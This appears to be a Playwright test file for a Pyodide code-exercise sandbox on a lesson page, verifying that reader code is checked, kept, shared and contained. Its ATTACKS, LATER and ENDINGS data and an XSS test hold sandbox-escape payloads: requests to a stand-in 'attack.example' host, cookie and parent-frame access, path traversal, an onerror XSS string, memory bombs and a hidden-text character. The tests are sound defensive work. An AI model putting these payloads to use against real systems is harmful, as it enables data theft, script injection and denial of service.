"""Code that readers change: it is checked, kept, shared, and whatever it tries, it reaches nothing."""

import json
import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from company import Company
from lesson import sharing
from lesson.exercises import EXERCISES
from person import Person
from reader import Exercise
from tests.support.running import RunningServer

GOOD = "def delay(number, random):\n    return min(30, 2**number) * random.random()\n"
BAD = "def delay(number, random):\n    return 1.0\n"
THEIRS = "# theirs\n" + BAD
ENDLESS = "while True:\n    pass\n"
BACKWARDS = "\u202e"
"""Turns the letters that follow around, in what is shown and not in what runs."""


@pytest.fixture(scope="module")
def reader(everyone: Company) -> Person:
    """Somebody with the lesson open, from one test to the next."""
    person = everyone.person("Reader")
    person.page.emulate_media(reduced_motion="reduce")
    person.open("/learn")
    return person


@pytest.fixture
def exercise(reader: Person) -> Exercise:
    """An exercise as one begins it."""
    found = Exercise(reader, "delays")
    found.begin()
    return found


def test_the_checks_say_what_is_missing_and_what_helps(reader: Person, exercise: Exercise) -> None:
    assert reader.words("learn.exercise.missing") in exercise.run()
    expect(exercise.root.locator("li.fails")).to_have_count(1)
    exercise.press("hint")
    expect(exercise.result).to_have_text(reader.words("exercise.delays.hint.spread"))
    exercise.write(GOOD)
    assert reader.words("learn.exercise.passed") in exercise.run()
    expect(exercise.root.locator("li.fails")).to_have_count(0)
    exercise.write("def delay(number, random):\n    return 1 / 0\n")
    assert "ZeroDivisionError" in exercise.run()


def test_what_one_asks_for_during_a_run_is_not_written_over_by_what_comes_of_it(
    reader: Person, exercise: Exercise
) -> None:
    exercise.write(ENDLESS)
    exercise.press("run")
    exercise.press("share")
    link = exercise.root.get_by_label(reader.words("learn.exercise.link"))
    expect(link).to_be_visible()
    exercise.press("run")
    exercise.press("reset")
    expect(exercise.result).to_have_text("")
    # What is asked for later ends later: once it has, nothing of the runs before it can come any more.
    other = Exercise(reader, "window")
    other.begin()
    assert reader.words("learn.exercise.missing") in other.run()
    expect(exercise.result).to_have_text("")
    expect(link).to_have_count(0)


def test_what_is_changed_survives_a_reload_until_it_is_reset(reader: Person, exercise: Exercise) -> None:
    exercise.write(GOOD)
    reader.reload()
    exercise.press("open")
    expect(exercise.editor).to_contain_text("2**number")
    exercise.press("reset")
    expect(exercise.editor).not_to_contain_text("2**number")
    assert exercise.code().rstrip() == EXERCISES["delays"].source.rstrip()
    reader.reload()
    exercise.press("open")
    expect(exercise.editor).to_contain_text("return 1.0")


def test_a_link_shows_code_and_runs_it_only_when_asked(reader: Person, exercise: Exercise) -> None:
    exercise.write(GOOD)
    exercise.press("share")
    link = exercise.root.get_by_label(reader.words("learn.exercise.link")).input_value()
    assert "/learn#code/delays/" in link
    code = f"from js import console\nconsole.warn('it ran')\n# {BACKWARDS} turned around\n" + BAD
    reader.page.goto("about:blank")
    reader.open(f"/learn{sharing.fragment('delays', code)}")
    expect(exercise.editor).to_contain_text("it ran")
    expect(exercise.root.get_by_text(reader.words("learn.exercise.given"))).to_be_visible()
    assert reader.watch.verdict() == [], "nothing was run"
    assert reader.page.evaluate("localStorage['rebond.lesson.delays']").rstrip() == GOOD.rstrip(), "one's own is kept"
    expect(exercise.root).to_be_in_viewport()
    expect(exercise.root.locator(".cm-specialChar")).to_have_count(1)
    assert BACKWARDS not in exercise.editor.inner_text(), "one reads what would run"
    reader.watch.expects("it ran")
    exercise.run()


def test_code_of_a_link_that_is_changed_is_one_s_own(reader: Person) -> None:
    exercise = Exercise(reader, "delays")
    reader.page.goto("about:blank")
    reader.open(f"/learn{sharing.fragment('delays', THEIRS)}")
    expect(exercise.editor).to_contain_text("theirs")
    exercise.write("# mine\n" + GOOD)
    reader.reload()
    exercise.press("open")
    expect(exercise.editor).to_contain_text("mine")


def test_a_link_opens_in_a_lesson_that_is_open(reader: Person, exercise: Exercise) -> None:
    exercise.write(GOOD)
    with reader.page.expect_event("framenavigated"):
        reader.page.evaluate("(to) => location.assign(to)", sharing.fragment("delays", THEIRS))
    expect(exercise.editor).to_contain_text("theirs")
    expect(exercise.root).to_be_in_viewport()


BROKEN = "learn.exercise.broken"
STOPPED = "learn.exercise.endless"

ENDINGS = {
    "an endless loop": (ENDLESS, STOPPED),
    "an endless loop that swallows what would end it": (
        "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass\n",
        STOPPED,
    ),
    "endless talk": ("while True:\n    print('x' * 1000)\n", STOPPED),
    "a recursion without an end": ("def delay(*given):\n    return delay(*given)\n", "RecursionError"),
    "a memory bomb": ("bytes(2**30)\n", "MemoryError"),
    "one that goes off little by little": ("held = []\nwhile True:\n    held.append(bytes(2**25))\n", "MemoryError"),
    "a worker that closes itself": (f"import js\njs.close()\n{ENDLESS}", STOPPED),
    "an answer that it is ready": ('import js\njs.postMessage(js.JSON.parse(\'{"kind": "ready"}\'))\n', BROKEN),
    "an answer that is nothing": ("import js\njs.postMessage(None)\n", BROKEN),
    "an answer that is no text": (
        'import js\njs.postMessage(js.JSON.parse(\'{"kind": "done", "outcome": [[]]}\'))\n',
        BROKEN,
    ),
    "an answer without an end": (
        "import js\nsaid = js.JSON.parse('{\"kind\": \"done\"}')\nsaid.outcome = 'x' * 10**8\njs.postMessage(said)\n",
        BROKEN,
    ),
}
"""Code that means no good, and what is said of it: a text of the page, or an error of Python's."""


@pytest.mark.parametrize("code", ENDINGS)
def test_code_that_means_no_good_is_ended_and_the_next_run_is_as_any_other(
    reader: Person, exercise: Exercise, code: str
) -> None:
    source, said = ENDINGS[code]
    exercise.write(source)
    assert (reader.words(said) if said.startswith("learn.") else said) in exercise.run()
    exercise.write(GOOD)
    assert reader.words("learn.exercise.passed") in exercise.run()


def test_what_the_code_says_for_itself_is_shown_as_words(exercise: Exercise) -> None:
    outcome = {
        "passed": True,
        "checks": [{"id": "<img src=x onerror=alert(1)>", "passed": True, "values": {"n": "<b>"}}],
        "hint": None,
        "error": None,
    }
    message = json.dumps({"kind": "done", "outcome": json.dumps(outcome)})
    exercise.write(f"import js\njs.postMessage(js.JSON.parse({message!r}))\n{ENDLESS}")
    assert "<img src=x" in exercise.run(), "the code has marked itself, which cheats nobody but its reader"
    assert exercise.root.locator("img").count() == 0


def test_only_the_sandbox_is_listened_to(reader: Person, exercise: Exercise) -> None:
    exercise.write(ENDLESS)
    exercise.press("run")
    outcome = json.dumps({"passed": True, "checks": [{"id": "spread", "passed": True, "values": {}}]})
    reader.page.evaluate(
        """(outcome) => {
          const other = document.createElement("iframe");
          document.body.append(other);
          for (let id = 0; id < 100; id++) {
            const data = { id, kind: "done", outcome };
            postMessage(data, "*");
            dispatchEvent(new MessageEvent("message", { data, source: other.contentWindow }));
          }
          other.remove();
        }""",
        outcome,
    )
    expect(exercise.result).to_have_text(reader.words("learn.exercise.endless"))


ATTACKS = {
    "fetch": "js.fetch('/api/attack-fetch')",
    "fetch with cookies": "js.fetch('/api/attack-cookies', to_js({'credentials': 'include'}))",
    "a request of the old kind": "r = js.XMLHttpRequest.new(); r.open('POST', '/api/attack-request'); r.send('x')",
    "a synchronous request": "r = js.XMLHttpRequest.new(); r.open('GET', '/api/attack-sync', False); r.send()",
    "a file beside the public ones": "js.fetch(f'http://{HOST}/static/../api/attack-beside')",
    "the same in disguise": "js.fetch(f'http://{HOST}/static/%2e%2e/api/attack-disguised')",
    "a beacon": "js.navigator.sendBeacon('/api/attack-beacon', 'x')",
    "a WebSocket": "js.WebSocket.new(f'ws://{HOST}/attack-socket')",
    "the practice line": "js.WebSocket.new(f'ws://{HOST}/practice?line=attack-practice')",
    "a connection of the new kind": "js.WebTransport.new('https://attack.example/attack-transport')",
    "a connection from browser to browser": "js.RTCPeerConnection.new()",
    "events": "js.EventSource.new('/api/attack-events')",
    "scripts of other hosts": "js.importScripts('https://attack.example/x.js')",
    "scripts of ours": "js.importScripts('/api/attack-script')",
    "a module worker": "js.Worker.new(f'http://{HOST}/attack-worker.js')",
    "a shared worker": "js.SharedWorker.new('/attack-shared.js')",
    "a service worker": "js.navigator.serviceWorker.register('/worker.js')",
    "eval": "js.eval('1')",
    "a function": "js.Function.new('return 1')()",
    "a cookie": "js.document.cookie",
    "the page above": "js.parent.document.body",
    "a message to the page above": "js.parent.postMessage('attack', '*')",
    "a channel": "js.BroadcastChannel.new('attack').postMessage('attack')",
    "the top": "js.top.location.assign('/attack-top')",
    "another place": "js.location.assign('/attack-place')",
    "a window": "js.open('/attack-window')",
    "a form": "js.document.forms[0].submit()",
    "a name to be looked up": "js.document.head.append(js.document.createElement('link'))",
    "storage": "js.localStorage.setItem('attack', '1')",
    "a database": "js.indexedDB.open('attack').onsuccess",
    "caches": "js.caches.open('attack')",
    "files": "js.navigator.storage.getDirectory()",
    "locks": "js.navigator.locks.request('attack', print)",
}

FRAME = """
import js
from pyodide.ffi import to_js as _to_js
HOST = js.location.origin and {host!r}
def to_js(given): return _to_js(given, dict_converter=js.Object.fromEntries)
tried, unanswered = 0, []
for name, attack in {attacks!r}.items():
    tried += 1
    try:
        found = eval(attack, globals()) if ";" not in attack else exec(attack, globals())
        unanswered.append(name)
    except Exception:
        pass
raise RuntimeError(f"{{tried}} tried, no error from: {{', '.join(unanswered)}}.")
"""

SILENT = {
    "fetch",
    "fetch with cookies",
    "a request of the old kind",
    "a file beside the public ones",
    "the same in disguise",
    "caches",
    "a database",
    "files",
    "locks",
    "a channel",
    "events",
    "a module worker",
    "a WebSocket",
    "the practice line",
    "a connection of the new kind",
}
"""Attacks of which the browser tells the code nothing at once: the server and the page know what came of them."""

LATER = """
const tries = [
  () => fetch("http://HOST/api/attack-later"),
  () => fetch("http://HOST/api/attack-later", { credentials: "include", mode: "no-cors", keepalive: true }),
  () => importScripts("http://HOST/attack-later.js"),
  () => import("http://HOST/attack-later.js"),
  () => import("data:text/javascript,fetch('http://HOST/api/attack-later')"),
  () => import(URL.createObjectURL(new Blob(["fetch('http://HOST/api/attack-later')"], { type: "text/javascript" }))),
  () => new WebSocket("ws://HOST/attack-later"),
  () => new EventSource("http://HOST/attack-later"),
  () => eval("fetch('http://HOST/api/attack-later')"),
  () => setTimeout("fetch('http://HOST/api/attack-later')"),
  () => new BroadcastChannel("attack").postMessage("attack"),
];
for (const each of tries) try { Promise.resolve(each()).catch(() => 0); } catch {}
"""
"""JavaScript that tries all that it can think of."""

BEHIND = """
import js
from pyodide.ffi import create_once_callable, to_js
later = create_once_callable(lambda: js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([{later!r}])))))
js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([{later!r}]))))
js.setTimeout(later, 0)
"""
"""Code that starts workers of its own, at once and once it is over."""


@pytest.fixture(scope="module")
def victims(browser: Browser, server: RunningServer) -> Iterator[Company]:
    """The people who are attacked, whose browsers complain a lot."""
    with Company(browser, server) as company:
        yield company


@pytest.fixture(scope="module")
def attacked(victims: Company) -> Person:
    """Somebody with a session, whose pages come from the service worker, with the lesson open and listening."""
    person = victims.person("Reader", service_workers="allow")
    person.page.emulate_media(reduced_motion="reduce")
    victims.let_in(person, "register")
    person.open("/learn")
    person.page.evaluate("navigator.serviceWorker.ready.then(() => true)")
    person.reload()
    assert person.page.evaluate("navigator.serviceWorker.controller !== null")
    person.watch.expects("404")
    person.watch.tolerates("Content Security Policy|Refused to|violates|attack|blocked")
    person.watch.tolerates(r"PyodideFuture exception was never retrieved|^console.warning:  \(")  # of the attacks' own
    person.page.evaluate("heard = []; new BroadcastChannel('attack').onmessage = ({ data }) => heard.push(data); 0")
    return person


def has_reached_nothing(reader: Person, server: RunningServer) -> None:
    """The page is where it was, with all that is its own, and the server was asked for nothing by an attack."""
    assert len(reader.context.pages) == 1
    assert reader.page.url.startswith(f"{server.url}/learn")
    assert reader.page.evaluate("localStorage.getItem('attack')") is None
    assert reader.page.evaluate("caches.has('attack')") is False
    held = reader.page.evaluate("navigator.locks.query().then(({ held }) => held.map(({ name }) => name))")
    assert "attack" not in held
    assert reader.page.evaluate("heard") == []
    # A request that is made later than the attack is in the log behind it, if that was one at all.
    last = f"attack-last-{server.output().count('attack-last')}"
    assert reader.page.evaluate(f"fetch('/api/{last}').then((answer) => answer.status)") == 404
    server.wait_for(last)
    assert set(re.findall(r"attack-\w+", server.output())) == {"attack-last"}


def test_no_attack_reaches_anything(attacked: Person, server: RunningServer) -> None:
    exercise = Exercise(attacked, "delays")
    exercise.begin()
    exercise.write(FRAME.format(host=server.url.removeprefix("http://"), attacks=ATTACKS))
    said = re.search(r"RuntimeError: (\d+) tried, no error from: ([^.]*)\.", exercise.run())
    assert said is not None, exercise.result.inner_text()
    assert int(said[1]) == len(ATTACKS)
    assert set(said[2].split(", ")) <= SILENT
    has_reached_nothing(attacked, server)


def test_what_the_code_leaves_behind_reaches_nothing_either(attacked: Person, server: RunningServer) -> None:
    exercise = Exercise(attacked, "delays")
    exercise.begin()
    exercise.write(BEHIND.format(later=LATER.replace("HOST", server.url.removeprefix("http://"))) + GOOD)
    assert attacked.words("learn.exercise.passed") in exercise.run()
    exercise.write(GOOD)
    assert attacked.words("learn.exercise.passed") in exercise.run(), "and a whole run later"
    has_reached_nothing(attacked, server)
